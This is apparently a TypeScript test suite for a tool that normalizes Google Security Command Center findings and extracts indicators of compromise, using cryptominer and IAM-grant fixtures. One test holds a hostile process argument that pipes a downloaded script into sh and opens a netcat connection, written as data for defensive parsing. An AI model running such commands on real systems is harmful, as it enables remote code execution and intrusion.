import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { InvalidInputError } from "../../../functions/src/domain/errors.js";
import {
  FINDING_LIMITS,
  type Finding,
  FindingSchema,
  findingIocs,
  normalizeNotification,
  parseNotification,
} from "../../../functions/src/domain/finding/finding.js";
import { jsonBytes } from "../../../functions/src/domain/json.js";
import { sccFinding, sccNotification } from "../../fixtures/scc.js";

/** What ingest does with a Pub/Sub payload. */
const ingestPayload = (payload: unknown): Finding => normalizeNotification(parseNotification(payload));

function invalidInput(fn: () => unknown): InvalidInputError {
  try {
    fn();
  } catch (error) {
    assert.ok(error instanceof InvalidInputError, `expected InvalidInputError, got ${String(error)}`);
    assert.equal(error.code, "invalid_input");
    assert.equal(error.retryable, false);
    return error;
  }
  assert.fail("expected an InvalidInputError, nothing was thrown");
}

const FINDING_KEYS = [
  "access",
  "canonicalName",
  "category",
  "connections",
  "createTime",
  "description",
  "details",
  "envelope",
  "eventTime",
  "externalUri",
  "files",
  "findingClass",
  "iamBindings",
  "indicators",
  "mitre",
  "mute",
  "name",
  "nextSteps",
  "notificationConfigName",
  "parentDisplayName",
  "processes",
  "resource",
  "severity",
  "severitySource",
  "sourceProperties",
  "state",
  "truncated",
];

describe("normalizeNotification: v1 and v2 notifications", () => {
  it("normalizes a v1 cryptominer notification into every field the agent reads", () => {
    const f = sccFinding("v1-cryptominer");

    assert.equal(
      f.name,
      "organizations/123456789012/sources/11223344556677889900/findings/6d1f0c7a2e4b4b7d9f1a3c5e7b9d1f3a",
    );
    assert.equal(f.notificationConfigName, "organizations/123456789012/notificationConfigs/ferret-findings");
    assert.equal(f.category, "Execution: Cryptocurrency Mining Combined Detection");
    assert.equal(f.severity, "HIGH");
    assert.equal(f.findingClass, "THREAT");
    assert.equal(f.state, "ACTIVE");
    assert.equal(f.mute, "UNMUTED");
    assert.equal(f.eventTime, "2024-05-14T09:31:07.123Z");
    assert.equal(f.createTime, "2024-05-14T09:31:09.456Z");
    assert.equal(
      f.description,
      "Virtual Machine Threat Detection found a cryptocurrency miner in the memory of web-1.",
    );
    assert.deepEqual(f.resource, {
      name: "//compute.googleapis.com/projects/acme-prod/zones/us-central1-a/instances/4567890123456789012",
      type: "google.compute.Instance",
      project: "//cloudresourcemanager.googleapis.com/projects/987654321098",
      projectDisplayName: "acme-prod",
      displayName: "web-1",
    });
    assert.deepEqual(f.indicators, {
      ipAddresses: ["45.9.148.108"],
      domains: ["Pool.SupportXMR.com"],
      uris: ["stratum+tcp://pool.supportxmr.com:3333"],
      // binary, script and file hashes, lowercased
      hashes: [
        "3f5a1c9e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19",
        "aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44",
        "bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55",
      ],
      signatures: ["memory-hash:XMRig", "memory-hash-binary:xmrig-6.16.4", "yara:YARA_RULE_XMRIG_CONFIG"],
    });
    assert.deepEqual(f.processes, [
      {
        name: "kworkerds",
        binaryPath: "/tmp/.X11-unix/kworkerds",
        sha256: "3f5a1c9e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19",
        args: [
          "/tmp/.X11-unix/kworkerds",
          "-o",
          "pool.supportxmr.com:3333",
          "-u",
          "wallet-redacted",
          "--donate-level=0",
        ],
        pid: "4321",
        parentPid: "1200", // a number in the payload, a string in the finding
      },
    ]);
    assert.deepEqual(f.files, [
      {
        path: "/tmp/.X11-unix/config.json",
        sha256: "bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55",
      },
    ]);
    assert.deepEqual(f.connections, [
      {
        destinationIp: "45.9.148.108",
        destinationPort: 3333,
        sourceIp: "10.128.0.7",
        sourcePort: 50612,
        protocol: "TCP",
      },
    ]);
    assert.deepEqual(f.mitre, {
      primaryTactic: "IMPACT",
      techniques: ["RESOURCE_HIJACKING", "COMMAND_AND_SCRIPTING_INTERPRETER"],
      tactics: ["EXECUTION"],
    });
    assert.deepEqual(f.iamBindings, []);
    assert.equal(f.access, undefined);
    assert.deepEqual(f.sourceProperties, {
      vm_instance_name: "web-1",
      detection_type: "YARA_AND_MEMORY_HASH",
      evidence: [{ sourceLogId: { resourceContainer: "projects/acme-prod" } }],
    });
    assert.deepEqual(f.truncated, []);
    assert.ok(FindingSchema.safeParse(f).success);
  });

  it("gives a v2 notification (locations/global, resource.gcpMetadata.project) the same normalized fields", () => {
    const v1 = sccFinding("v1-cryptominer");
    const v2 = sccFinding("v2-cryptominer");

    assert.equal(
      v2.name,
      "organizations/123456789012/sources/11223344556677889900/locations/global/findings/6d1f0c7a2e4b4b7d9f1a3c5e7b9d1f3a",
    );
    assert.equal(
      v2.notificationConfigName,
      "organizations/123456789012/locations/global/notificationConfigs/ferret-findings",
    );
    // the v2 payload has no resource.project; the project comes from gcpMetadata
    assert.equal(sccNotification("v2-cryptominer").resource?.project, undefined);
    assert.equal(v2.resource.project, "//cloudresourcemanager.googleapis.com/projects/987654321098");
    assert.equal(v2.resource.projectDisplayName, "acme-prod");

    // v2 resources carry more (location, resourcePath…): kept verbatim in details.
    assert.equal(v2.details?.["resource.location"], "us-central1-a");
    const { name: _n1, notificationConfigName: _c1, canonicalName: _k1, details: _d1, ...rest1 } = v1;
    const { name: _n2, notificationConfigName: _c2, canonicalName: _k2, details: _d2, ...rest2 } = v2;
    assert.deepEqual(rest2, rest1);
  });

  it("normalizes access details, IAM bindings and a lowercase severity (v1 IAM anomalous grant)", () => {
    const f = sccFinding("v1-iam-anomalous-grant");
    assert.equal(f.severity, "HIGH");
    assert.equal(f.eventTime, "2024-06-02T22:14:55.918264Z", "microsecond eventTime is accepted verbatim");
    assert.deepEqual(f.access, {
      principalEmail: "ci-deployer@acme-prod.iam.gserviceaccount.com",
      callerIp: "203.0.113.77",
      callerIpRegion: "NL",
      userAgent: "google-cloud-sdk gcloud/471.0.0 command/gcloud.projects.add-iam-policy-binding",
      serviceName: "cloudresourcemanager.googleapis.com",
      methodName: "SetIamPolicy",
      serviceAccountKeyName:
        "//iam.googleapis.com/projects/acme-prod/serviceAccounts/ci-deployer@acme-prod.iam.gserviceaccount.com/keys/0f1e2d3c4b5a69788796a5b4c3d2e1f0",
      principalSubject: "serviceAccount:ci-deployer@acme-prod.iam.gserviceaccount.com",
    });
    assert.deepEqual(f.iamBindings, [
      { action: "ADD", role: "roles/owner", member: "user:mallory.contractor@gmail.com" },
    ]);
    assert.deepEqual(f.mitre, {
      primaryTactic: "PERSISTENCE",
      techniques: ["VALID_ACCOUNTS", "CLOUD_ACCOUNTS"],
      tactics: [],
    });
    assert.deepEqual(f.processes, []);
    assert.deepEqual(f.indicators, { ipAddresses: [], domains: [], uris: [], hashes: [], signatures: [] });
    assert.equal(f.resource.type, "google.cloud.resourcemanager.Project");
  });

  it("keeps fields SCC adds without notice verbatim in details and types the rest as before", () => {
    const baseline = sccFinding("v2-cryptominer");
    const n = sccNotification("v2-cryptominer");
    n.someFutureEnvelopeField = { nested: [1, 2, 3] };
    n.finding.kernelRootkit = { name: "Diamorphine", unexpectedCodeModification: true };
    n.finding.attackExposure = { score: 4.2, state: "CALCULATED" };
    n.finding.indicator = { ...(n.finding.indicator as object), newIndicatorKind: ["x"] };
    n.resource = { ...n.resource, adcApplication: { name: "x" } };

    const f = ingestPayload(n);
    assert.deepEqual(Object.keys(f).sort(), FINDING_KEYS);
    assert.deepEqual(f.details?.kernelRootkit, { name: "Diamorphine", unexpectedCodeModification: true });
    assert.deepEqual(f.details?.attackExposure, { score: 4.2, state: "CALCULATED" });
    assert.deepEqual(Object(f.details?.indicator).newIndicatorKind, ["x"]);
    assert.deepEqual(f.details?.["resource.adcApplication"], { name: "x" });
    assert.deepEqual(f.details?.["notification.someFutureEnvelopeField"], { nested: [1, 2, 3] });
    const { details: _d, ...typed } = f;
    const { details: _b, ...typedBaseline } = baseline;
    assert.deepEqual(typed, typedBaseline);
  });

  it("fills the documented defaults when optional fields are absent", () => {
    const f = ingestPayload({
      finding: {
        name: "organizations/1/sources/2/findings/3",
        category: "Discovery: Service Account Self-Investigation",
        eventTime: "2024-05-14T09:31:07Z",
        resourceName: "//iam.googleapis.com/projects/p/serviceAccounts/sa@p.iam.gserviceaccount.com",
      },
    });
    assert.equal(f.severity, "SEVERITY_UNSPECIFIED");
    assert.equal(f.findingClass, "FINDING_CLASS_UNSPECIFIED");
    assert.equal(f.state, "STATE_UNSPECIFIED");
    assert.equal(f.mute, "MUTE_UNSPECIFIED");
    assert.equal(
      f.resource.name,
      "//iam.googleapis.com/projects/p/serviceAccounts/sa@p.iam.gserviceaccount.com",
    );
    assert.equal(f.resource.project, undefined);
    assert.deepEqual(f.sourceProperties, {});
    assert.deepEqual(f.truncated, []);
  });
});

describe("severity parsing", () => {
  const cases: [string | undefined, Finding["severity"]][] = [
    ["CRITICAL", "CRITICAL"],
    ["HIGH", "HIGH"],
    ["medium", "MEDIUM"],
    ["Low", "LOW"],
    ["SEVERITY_UNSPECIFIED", "SEVERITY_UNSPECIFIED"],
    ["URGENT", "SEVERITY_UNSPECIFIED"],
    ["", "SEVERITY_UNSPECIFIED"],
    [undefined, "SEVERITY_UNSPECIFIED"],
  ];
  for (const [raw, expected] of cases) {
    it(`${JSON.stringify(raw) ?? "missing"} → ${expected}`, () => {
      const n = sccNotification("v1-cryptominer");
      if (raw === undefined) delete n.finding.severity;
      else n.finding.severity = raw;
      assert.equal(ingestPayload(n).severity, expected);
    });
  }
});

describe("findingIocs", () => {
  it("types the cryptominer's indicators, hashes and connection, merging duplicates (first context wins)", () => {
    assert.deepEqual(findingIocs(sccFinding("v1-cryptominer")), [
      { type: "ip", value: "45.9.148.108", context: "SCC indicator", path: "indicator.ipAddresses[0]" },
      {
        type: "domain",
        value: "pool.supportxmr.com",
        context: "SCC indicator",
        path: "indicator.domains[0]",
      },
      {
        type: "url",
        value: "stratum+tcp://pool.supportxmr.com:3333",
        context: "SCC indicator",
        path: "indicator.uris[0]",
      },
      {
        type: "hash",
        value: "3f5a1c9e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19",
        context: "process or file hash",
        path: "processes[0].binary.sha256",
      },
      {
        type: "hash",
        value: "aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44",
        context: "process or file hash",
        path: "processes[].script.sha256",
      },
      {
        type: "hash",
        value: "bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55",
        context: "process or file hash",
        path: "files[0].sha256",
      },
    ]);
  });

  it("takes the caller IP, the acting principal and IAM members (prefix stripped)", () => {
    assert.deepEqual(findingIocs(sccFinding("v1-iam-anomalous-grant")), [
      { type: "ip", value: "203.0.113.77", context: "caller IP", path: "access.callerIp" },
      {
        type: "principal",
        value: "ci-deployer@acme-prod.iam.gserviceaccount.com",
        context: "acting principal",
        path: "access.principalEmail",
      },
      {
        type: "principal",
        value: "mallory.contractor@gmail.com",
        context: "IAM ADD roles/owner",
        path: "iamBindings[0].member",
      },
    ]);
  });

  for (const callerIp of ["gce-internal-ip", "private"]) {
    it(`keeps a redacted caller IP (${callerIp}) on the finding but not as an IP IOC`, () => {
      const n = sccNotification("v1-iam-anomalous-grant");
      n.finding.access = { ...(n.finding.access as object), callerIp };
      const f = ingestPayload(n);
      assert.equal(f.access?.callerIp, callerIp);
      assert.deepEqual(
        findingIocs(f).map((i) => [i.type, i.value]),
        [
          ["principal", "ci-deployer@acme-prod.iam.gserviceaccount.com"],
          ["principal", "mallory.contractor@gmail.com"],
        ],
      );
    });
  }

  it("takes an IPv6 caller IP", () => {
    const n = sccNotification("v1-iam-anomalous-grant");
    n.finding.access = { ...(n.finding.access as object), callerIp: "2001:db8::7" };
    assert.deepEqual(findingIocs(ingestPayload(n))[0], {
      type: "ip",
      value: "2001:db8::7",
      context: "caller IP",
      path: "access.callerIp",
    });
  });

  it("adds connection destinations and IOCs found in process arguments", () => {
    const n = sccNotification("v1-cryptominer");
    n.finding.indicator = {};
    n.finding.files = [];
    n.finding.processes = [
      { name: "sh", args: ["sh", "-c", "curl -fsSL http://198.51.100.23/x.sh | sh; nc 192.0.2.10 4444"] },
    ];
    n.finding.connections = [{ destinationIp: "192.0.2.10", destinationPort: 4444, protocol: "TCP" }];
    assert.deepEqual(findingIocs(ingestPayload(n)), [
      {
        type: "ip",
        value: "192.0.2.10",
        context: "connection destination port 4444",
        path: "connections[0].destinationIp",
      },
      { type: "url", value: "http://198.51.100.23/x.sh", path: "processes[0].args" },
    ]);
  });
});

describe("malformed payloads", () => {
  it("rejects a payload without a finding, saying what was expected", () => {
    const n = sccNotification("v1-cryptominer");
    delete (n as Partial<typeof n>).finding;
    const error = invalidInput(() => ingestPayload(n));
    assert.match(
      error.message,
      /^not an SCC notification: no finding in it; expected a Pub\/Sub notification/,
    );
  });

  it("rejects a finding without a category, or with an empty one", () => {
    const missing = sccNotification("v1-cryptominer");
    delete missing.finding.category;
    assert.match(invalidInput(() => ingestPayload(missing)).message, /finding\.category: /);

    const empty = sccNotification("v1-cryptominer");
    empty.finding.category = "";
    assert.match(invalidInput(() => ingestPayload(empty)).message, /finding\.category: /);
  });

  it("rejects a finding without a name", () => {
    const n = sccNotification("v1-cryptominer");
    delete n.finding.name;
    assert.match(invalidInput(() => ingestPayload(n)).message, /finding\.name: /);
  });

  for (const eventTime of [
    "yesterday",
    "2024-05-14 09:31:07",
    "1715679067",
    "2024-05-14T09:31:07",
    1715679067,
  ]) {
    it(`rejects eventTime ${JSON.stringify(eventTime)} when no createTime can stand in, naming eventTime`, () => {
      const n = sccNotification("v1-cryptominer");
      n.finding.eventTime = eventTime;
      delete n.finding.createTime;
      const error = invalidInput(() => ingestPayload(n));
      assert.match(error.message, /eventTime: /);
    });

    it(`anchors on createTime, with a note, when eventTime is ${JSON.stringify(eventTime)}`, () => {
      const n = sccNotification("v1-cryptominer");
      n.finding.eventTime = eventTime;
      const finding = ingestPayload(n);
      assert.equal(finding.eventTime, "2024-05-14T09:31:09.456Z");
      assert.ok(
        finding.notes?.some((note) => /eventTime .*not an ISO 8601 time.*createTime/.test(note)),
        JSON.stringify(finding.notes),
      );
    });
  }

  it("anchors on createTime when eventTime is missing, and refuses when both are", () => {
    const n = sccNotification("v1-cryptominer");
    delete n.finding.eventTime;
    assert.equal(ingestPayload(n).eventTime, "2024-05-14T09:31:09.456Z");
    delete n.finding.createTime;
    assert.match(invalidInput(() => ingestPayload(n)).message, /finding\.eventTime: /);
  });

  it("keeps a known field of an unexpected shape verbatim in details, with a note, instead of rejecting", () => {
    const n = sccNotification("v1-cryptominer");
    n.finding.processes = { name: "not a list" };
    const f = ingestPayload(n);
    assert.deepEqual(f.processes, []);
    assert.deepEqual(f.details?.processes, { name: "not a list" });
    assert.deepEqual(f.notes, ["finding.processes has an unexpected shape; kept verbatim in details"]);
  });

  it("reads Google's inactive v2 sample, whose sourceProperties is [], instead of rejecting it", () => {
    const n = sccNotification("v2-cryptominer");
    n.finding.sourceProperties = [];
    const f = ingestPayload(n);
    assert.deepEqual(f.sourceProperties, {});
    assert.deepEqual(f.notes, ["sourceProperties was [], read as no properties"]);
  });

  // Two bounds: nesting past FINDING_LIMITS.maxDepth (still plausible) becomes a marker and
  // the finding is investigated; past the message bound (json.ts, 64 levels) the notification
  // is refused with a non-retryable error naming the path, so ingest dead-letters it.
  it("turns nesting past maxDepth but within the message bound into a marker", () => {
    const depth = 60;
    const text =
      `{"finding":{"name":"organizations/1/sources/2/findings/3","category":"x","eventTime":"2026-01-01T00:00:00Z",` +
      `"kernelRootkit":${'{"d":'.repeat(depth)}1${"}".repeat(depth)},"processes":${"[".repeat(depth)}1${"]".repeat(depth)}}}`;
    const f = ingestPayload(JSON.parse(text));
    assert.ok(
      f.truncated.includes(`kernelRootkit${".d".repeat(FINDING_LIMITS.maxDepth - 1)}`),
      f.truncated.join(", "),
    );
    assert.deepEqual(f.notes, ["finding.processes has an unexpected shape; kept verbatim in details"]);
    const n = sccNotification("v1-cryptominer");
    let deep: unknown = "bottom";
    for (let i = 0; i < 50; i++) deep = { d: deep };
    n.finding.sourceProperties = { deep };
    const g = ingestPayload(n);
    assert.ok(g.truncated.some((p) => p.startsWith("sourceProperties.deep.d.d")));
    assert.ok(
      JSON.stringify(g.sourceProperties).includes(`nested deeper than ${FINDING_LIMITS.maxDepth} levels`),
    );
  });

  it("refuses 10 000 and 50 000 levels of nesting with an error naming the path, not a stack overflow", () => {
    for (const depth of [10_000, 50_000]) {
      const n = sccNotification("v1-cryptominer");
      let deep: unknown = "bottom";
      for (let i = 0; i < depth; i++) deep = { d: deep };
      n.finding.sourceProperties = { deep };
      const error = invalidInput(() => ingestPayload(n));
      assert.equal(error.retryable, false);
      assert.match(error.message, /finding\.sourceProperties\.deep\.d\.d.*nested deeper than 64 levels/);
    }
  });

  for (const payload of [null, "organizations/1/sources/2/findings/3", 42, [], true]) {
    it(`rejects ${JSON.stringify(payload)} (not an object) at the root`, () => {
      assert.match(
        invalidInput(() => ingestPayload(payload)).message,
        /^not an SCC notification: no finding in it; expected /,
      );
    });
  }
});

describe("oversized fields are capped and listed in truncated", () => {
  it("cuts a 100 KB process argument and keeps the others", () => {
    const n = sccNotification("v1-cryptominer");
    const huge = `--payload=${"A".repeat(100_000)}`;
    n.finding.processes = [{ name: "python3", args: ["python3", "-c", huge, "--tail"] }];
    const f = ingestPayload(n);

    const args = f.processes[0]!.args;
    assert.equal(args.length, 4);
    assert.deepEqual([args[0], args[1], args[3]], ["python3", "-c", "--tail"]);
    assert.ok(args[2]!.length <= FINDING_LIMITS.stringChars, `arg is ${args[2]!.length} chars`);
    assert.ok(args[2]!.startsWith("--payload=AAAA"));
    assert.ok(args[2]!.endsWith("…[truncated]"));
    assert.deepEqual(f.truncated, ["processes[0].args[2]"]);
  });

  it("keeps the first 100 of 500 IP indicators", () => {
    const n = sccNotification("v1-cryptominer");
    const ips = Array.from({ length: 500 }, (_, i) => `203.0.${Math.floor(i / 250)}.${i % 250}`);
    n.finding.indicator = { ...(n.finding.indicator as object), ipAddresses: ips };
    n.finding.connections = [];
    const f = ingestPayload(n);

    assert.equal(f.indicators.ipAddresses.length, FINDING_LIMITS.listItems);
    assert.deepEqual(f.indicators.ipAddresses, ips.slice(0, FINDING_LIMITS.listItems));
    assert.deepEqual(f.truncated, ["indicator.ipAddresses"]);
    assert.equal(findingIocs(f).filter((i) => i.type === "ip").length, FINDING_LIMITS.listItems);
  });

  it("caps huge sourceProperties field by field, cutting IOC-free content first and listing each cut", () => {
    const n = sccNotification("v1-cryptominer");
    const props: Record<string, unknown> = {};
    // 108 KB of console prose before the key that names the attacker, as in the issue.
    for (let i = 0; i < 27; i++) props[`note${String(i).padStart(2, "0")}`] = "x".repeat(3_990);
    props.properties = { externalMembers: ["user:mallory@evil-mail.icu"], callerIp: "198.51.100.77" };
    n.finding.sourceProperties = props;
    const f = ingestPayload(n);

    assert.ok(jsonBytes(f.sourceProperties) <= FINDING_LIMITS.sourcePropertiesBytes);
    assert.deepEqual(f.sourceProperties.properties, props.properties, "the IOC-bearing key survives whole");
    assert.deepEqual(Object.keys(f.sourceProperties), Object.keys(props), "every key is still listed");
    const cut = f.truncated.filter((p) => p.startsWith("sourceProperties."));
    assert.ok(cut.length > 0 && cut.every((p) => /^sourceProperties\.note\d\d$/.test(p)), cut.join(", "));
    const cutKey = (cut[0] as string).slice("sourceProperties.".length);
    assert.match(String(f.sourceProperties[cutKey]), /^…\[cut: \d+ bytes\]$/);
    const values = findingIocs(f).map((i) => i.value);
    assert.ok(
      values.includes("mallory@evil-mail.icu") && values.includes("198.51.100.77"),
      values.join(", "),
    );
  });

  it("caps a long description and a list of 500 processes, listing both", () => {
    const n = sccNotification("v1-cryptominer");
    n.finding.description = "d".repeat(50_000);
    n.finding.processes = Array.from({ length: 500 }, (_, i) => ({ name: `p${i}`, pid: i }));
    const f = ingestPayload(n);

    assert.ok(f.description!.length <= FINDING_LIMITS.stringChars);
    assert.equal(f.processes.length, FINDING_LIMITS.listItems);
    assert.equal(f.processes.at(-1)!.name, "p99");
    assert.deepEqual(f.truncated.sort(), ["description", "processes"]);
    assert.ok(FindingSchema.safeParse(f).success);
  });
});
